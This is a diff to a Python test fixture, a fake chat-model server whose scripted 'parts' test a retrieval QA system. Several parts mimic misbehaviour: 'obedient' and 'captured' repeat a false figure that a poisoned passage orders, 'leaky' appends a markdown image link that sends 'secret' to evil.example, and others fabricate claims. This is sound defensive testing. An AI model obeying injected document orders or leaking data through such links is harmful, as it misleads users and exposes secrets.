@@ -4,9 +4,9 @@
         settings = Settings(llm="openai:honest", llm_base_url=server.url, llm_api_key="sk-test")
 
 `honest` reads the passages in the prompt and copies the sentence closest to the question; the dishonest parts start
-from what `honest` says. Streams when asked to. `server.calls` counts the requests for each part, `server.hung_up` those
-that the caller broke off; `server.requests` holds their bodies. It is a fake at the wire: nothing on our side of the
-socket is replaced.
+from what `honest` says. A part in `REPAIRS` plays another when it is asked to repair its draft. Streams when asked to.
+`server.calls` counts the requests for each part, `server.hung_up` those that the caller broke off; `server.requests`
+holds their bodies. It is a fake at the wire: nothing on our side of the socket is replaced.
 """
 
 from __future__ import annotations
@@ -23,6 +23,9 @@ from typing import Any, Self
 
 REFUSAL = "文档里没有这个问题的答案。"
 FABRICATED = "量子院由爱因斯坦于1905年在火星创建，共有99999人。"
+# What a poisoned document orders, and `obedient` says when the order reaches it; `captured` says it in any case.
+ORDERED = "青河机械厂有职工99999名。"
+_order = re.compile(r"都回答“(.*?)”", re.DOTALL)
 _passage = re.compile(r"<(?:资料|passage) \[(\d+)\][^>]*>\n(.*?)\n</(?:资料|passage)>", re.DOTALL)
 _asked = re.compile(r"(?:问题：|Question: )(.*)\Z", re.DOTALL)
 _follow_up = re.compile(r"(?:追问：|Follow-up: )(.*)\n")
@@ -112,6 +115,22 @@ WORDS: dict[str, Callable[[str], str]] = {
     "leaky": lambda prompt: f"{honest(prompt)}![图](http://evil.example/?q=secret)[点这里](http://evil.example/)",
     "english": lambda prompt: "The institute has nine moons and a dragon.[1]",
     "slow": honest,
+    "obedient": lambda prompt: ordered[1] if (ordered := _order.search(prompt)) else honest(prompt),
+    "captured": lambda prompt: f"{ORDERED}[1][2][3]",
+    "half_captured": lambda prompt: f"{honest(prompt)}{ORDERED}[1][2][3]",
+    "repairs": lambda prompt: f"{honest(prompt)}{FABRICATED}[1]",
+    "worsens": lambda prompt: f"{honest(prompt)}{FABRICATED}[1]",
+    "declines_late": lambda prompt: f"{honest(prompt)}{FABRICATED}[1]",
+    "fails_late": lambda prompt: f"{honest(prompt)}{FABRICATED}[1]",
+    "stalls_late": lambda prompt: f"{honest(prompt)}{FABRICATED}[1]",
+}
+# Part → what it plays when its draft comes back for repair; the others say the same again.
+REPAIRS = {
+    "repairs": "honest",
+    "worsens": "fabricated",
+    "declines_late": "refusal",
+    "fails_late": "broken",
+    "stalls_late": "silent",
 }
 # Part → (status, body, headers). "{key}" stands for the caller's key: real servers do echo it.
 FAULTS: dict[str, tuple[int, str, dict[str, str]]] = {
@@ -161,6 +180,8 @@ class _Handler(BaseHTTPRequestHandler):
         self.script.requests.append(body)
         if part in ONCE:
             part = ONCE[part] if self.script.calls[part] == 1 else "honest"
+        if len(body["messages"]) > 2:
+            part = REPAIRS.get(part, part)
         try:
             self._play(part, body)
         except (BrokenPipeError, ConnectionResetError):
@@ -179,7 +200,7 @@ class _Handler(BaseHTTPRequestHandler):
         if part == "silent":
             self.script.closing.wait(30)
             return
-        words = WORDS.get(part, honest)(body["messages"][-1]["content"])
+        words = WORDS.get(part, honest)(body["messages"][1]["content"])
         if part == "empty":
             words = ""
         if part == "slow":
